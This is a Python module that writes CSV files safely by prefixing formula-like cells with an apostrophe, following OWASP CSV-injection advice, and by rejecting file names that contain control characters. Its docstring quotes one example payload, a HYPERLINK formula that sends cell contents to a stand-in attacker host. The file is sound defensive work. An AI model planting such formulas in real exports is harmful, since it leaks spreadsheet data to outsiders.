"""Every CSV file the toolkit writes, safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return) as a formula, so a server
message, a property value or an index label such as
``=HYPERLINK("http://evil.example/?"&A1)`` would run when the file is opened.
As OWASP recommends (CSV injection), such a cell is written with a leading
``'``, which spreadsheets read as "this is text". That covers values, index
labels and column names; numbers in numeric columns are written as numbers.

Phone numbers in E.164 (``+12015550100``) start with ``+`` and get the ``'``
too: OWASP's rule has no exception, and a spreadsheet would otherwise turn
them into numbers and drop the ``+``. ``raw=True`` (``--raw-csv`` on the
command line) writes every value exactly as it is, for a program to read. The
DataFrames themselves are never changed.
"""

from __future__ import annotations

import numbers
from collections.abc import Iterable
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pandas as pd
from pandas.api.extensions import ExtensionArray

from attentive_nb.controls import clean, has_controls
from attentive_nb.errors import ConfigError
from attentive_nb.report.summary import rows_text

#: A cell starting with one of these is run as a formula by spreadsheets (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


if TYPE_CHECKING:
    _ConcretePath = Path
else:
    _ConcretePath = type(Path())  # PosixPath or WindowsPath: Path itself cannot be subclassed


class SavedCsv(_ConcretePath):
    """The path of a CSV file just written, shown as what was saved (``Saved 18 rows to …``)."""

    rows: int | None = None
    masked = True

    @classmethod
    def of(cls, path: Path, rows: int, *, masked: bool) -> SavedCsv:
        saved = cls(path)
        saved.rows, saved.masked = rows, masked
        return saved

    def __repr__(self) -> str:
        if self.rows is None:  # a path derived from this one (``.parent``): a plain path
            return super().__repr__()
        what = "identifiers masked" if self.masked else "identifiers in clear"
        return f"Saved {rows_text(self.rows)} to {self} ({what})"


def checked_path(name: str) -> str:
    """``name``, or ConfigError when it holds control characters or terminal escapes.

    Such a name is a paste gone wrong or an attack on the terminal that shows
    it; the file would be created under a name nobody can see or type.
    """
    if has_controls(name):
        raise ConfigError(
            "The file name holds control characters or terminal escape sequences "
            f"(shown without them: {clean(name, keep='')!r}); choose a plain file name."
        )
    return name


def write_csv(
    frame: pd.DataFrame, path: str | Path, *, index: bool = True, raw: bool = False
) -> Path:
    """Write ``frame`` to ``path`` (formula-like cells neutralised unless ``raw``); the path."""
    path = Path(checked_path(str(path)))
    # CRLF line ends (RFC 4180) make the csv module quote a cell holding a lone CR,
    # which otherwise would start a new row, neutralised or not, in spreadsheets.
    (frame if raw else neutralised(frame)).to_csv(path, index=index, lineterminator="\r\n")
    return path


def write_csv_slices(
    frames: Iterable[pd.DataFrame], path: str | Path, *, index: bool = True, raw: bool = False
) -> Path:
    """Write the frames one after another as one CSV file (the header once); the path.

    A table too long to hold twice is written a slice at a time: only one slice
    (and its neutralised copy) is in memory at once.
    """
    path = Path(checked_path(str(path)))
    with open(path, "w", encoding="utf-8", newline="") as handle:
        for i, frame in enumerate(frames):
            out = frame if raw else neutralised(frame)
            out.to_csv(handle, index=index, header=i == 0, lineterminator="\r\n")
    return path


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, labels and names never start a formula."""
    columns = {i: _cells(frame.iloc[:, i]) for i in range(frame.shape[1])}
    out: pd.DataFrame = pd.DataFrame(columns, index=_labels(frame.index))
    out.columns = _labels(frame.columns)
    return out


def neutral(value: object) -> object:
    """``value``, with a leading ``'`` if its text would start a formula; numbers unchanged."""
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    if value is None or isinstance(value, (numbers.Number, np.number, np.bool_)):
        return value
    text = str(value)  # what to_csv would write for any other object
    return "'" + text if text.startswith(FORMULA_STARTS) else value


def _cells(column: pd.Series) -> ExtensionArray:
    """One column's values to write: text neutralised, numbers and times as they are."""
    dtype = column.dtype
    if pd.api.types.is_numeric_dtype(dtype) or dtype.kind in "bMm":
        written = column
    elif isinstance(dtype, pd.StringDtype):  # text only: vectorised
        risky = column.str.startswith(FORMULA_STARTS).fillna(False).to_numpy(dtype=bool)
        written = column.where(~risky, "'" + column)
    else:
        written = column.astype(object).map(neutral)
    values: ExtensionArray = written.array
    return values


def _labels(labels: pd.Index) -> pd.Index:
    """Index labels or column names, neutralised (each level of a MultiIndex too)."""
    out: pd.Index
    if isinstance(labels, pd.MultiIndex):
        out = pd.MultiIndex.from_tuples(
            [tuple(neutral(v) for v in label) for label in labels], names=labels.names
        )
    elif pd.api.types.is_numeric_dtype(labels.dtype):
        out = labels.copy()
    else:
        out = pd.Index([neutral(v) for v in labels], dtype=object, name=labels.name)
    out.names = [neutral(n) for n in labels.names]
    return out
